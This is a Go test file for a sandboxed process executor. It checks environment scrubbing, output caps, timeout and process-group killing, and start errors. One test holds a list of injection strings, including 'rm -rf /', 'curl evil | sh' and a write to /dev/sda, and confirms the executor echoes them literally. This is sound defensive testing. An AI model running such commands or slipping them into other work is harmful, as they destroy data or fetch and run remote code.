package executor

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

func run(t *testing.T, argv []string, timeout time.Duration, cap int) *Result {
	t.Helper()
	r, err := Run(Request{Argv: argv, Timeout: timeout, MaxOutputBytes: cap, Home: t.TempDir(), KillGrace: 500 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestEnvironmentAndStdin(t *testing.T) {
	t.Setenv("ORCH_LEAK", "secret")
	r := run(t, []string{"/usr/bin/env"}, 5*time.Second, 1<<20)
	lines := strings.Split(strings.TrimSpace(string(r.Stdout)), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "PATH=/usr/local/sbin") || lines[1] != "LANG=C.UTF-8" || !strings.HasPrefix(lines[2], "HOME=") {
		t.Fatalf("env: %q", lines)
	}
	r = run(t, []string{"/bin/cat"}, 5*time.Second, 1<<20)
	if r.ExitCode != 0 || len(r.Stdout) != 0 {
		t.Fatalf("stdin not /dev/null: %+v", r)
	}
	r = run(t, []string{"/bin/sh", "-c", "exit 7"}, 5*time.Second, 1<<20)
	if r.ShellStatus() != 7 {
		t.Fatal(r.ShellStatus())
	}
}

func TestShellMetacharactersArePrinted(t *testing.T) {
	hostile := []string{"; rm -rf /", "$(reboot)", "`shutdown -h now`", "&& curl evil | sh", "> /dev/sda", "$HOME", "\n; id"}
	r := run(t, append([]string{"/bin/echo"}, hostile...), 5*time.Second, 1<<20)
	if string(r.Stdout) != strings.Join(hostile, " ")+"\n" {
		t.Fatalf("%q", r.Stdout)
	}
}

func TestOutputCap(t *testing.T) {
	r := run(t, []string{"/bin/sh", "-c", "head -c 100000 /dev/zero; head -c 10 /dev/zero >&2"}, 10*time.Second, 1000)
	if len(r.Stdout) != 1000 || len(r.Stderr) != 10 || !r.Truncated || r.ExitCode != 0 {
		t.Fatalf("%d %d %v", len(r.Stdout), len(r.Stderr), r.Truncated)
	}
}

func TestTimeoutKillsGroup(t *testing.T) {
	dir := t.TempDir()
	pidFile := filepath.Join(dir, "child.pid")
	// The shell ignores SIGTERM, so only SIGKILL after the grace period ends it; its background child is in the group.
	start := time.Now()
	r := run(t, []string{"/bin/sh", "-c", "trap '' TERM; sleep 30 & echo $! > " + pidFile + "; while :; do sleep 1; done"}, 300*time.Millisecond, 1<<20)
	if !r.TimedOut || !r.Signaled || r.Signal != syscall.SIGKILL || r.ShellStatus() != 137 || r.SignalName() != "SIGKILL" {
		t.Fatalf("%+v", r)
	}
	if time.Since(start) > 5*time.Second {
		t.Fatal("took too long")
	}
	raw, _ := os.ReadFile(pidFile)
	var pid int
	for _, c := range strings.TrimSpace(string(raw)) {
		pid = pid*10 + int(c-'0')
	}
	time.Sleep(100 * time.Millisecond)
	if pid > 0 && syscall.Kill(pid, 0) == nil {
		// a zombie reaped by init may linger briefly; check its state
		if st, _ := os.ReadFile("/proc/" + itoa(pid) + "/stat"); !strings.Contains(string(st), ") Z") {
			t.Fatalf("background child %d survived", pid)
		}
	}
}

func TestLeftoversKilledOnExit(t *testing.T) {
	dir := t.TempDir()
	pidFile := filepath.Join(dir, "child.pid")
	r := run(t, []string{"/bin/sh", "-c", "sleep 30 >/dev/null 2>&1 & echo $! > " + pidFile}, 10*time.Second, 1<<20)
	if r.ExitCode != 0 {
		t.Fatal(r.ExitCode)
	}
	raw, _ := os.ReadFile(pidFile)
	pid := 0
	for _, c := range strings.TrimSpace(string(raw)) {
		pid = pid*10 + int(c-'0')
	}
	time.Sleep(100 * time.Millisecond)
	if st, err := os.ReadFile("/proc/" + itoa(pid) + "/stat"); err == nil && !strings.Contains(string(st), ") Z") {
		t.Fatalf("leftover %d still running", pid)
	}
}

func TestTermHonoured(t *testing.T) {
	r := run(t, []string{"/bin/sleep", "30"}, 200*time.Millisecond, 1<<20)
	if !r.TimedOut || r.Signal != syscall.SIGTERM || r.ShellStatus() != 143 {
		t.Fatalf("%+v", r)
	}
}

func TestNotStarted(t *testing.T) {
	_, err := Run(Request{Argv: []string{"/nonexistent/x"}, Timeout: time.Second, Home: "/"})
	if e, ok := err.(*Error); !ok || e.Code != NotFound {
		t.Fatal(err)
	}
	_, err = Run(Request{Argv: []string{"/bin/true"}, Cwd: "/nonexistent", Timeout: time.Second, Home: "/"})
	if e, ok := err.(*Error); !ok || e.Code != BadCwd {
		t.Fatal(err)
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	s := ""
	for n > 0 {
		s = string(rune('0'+n%10)) + s
		n /= 10
	}
	return s
}
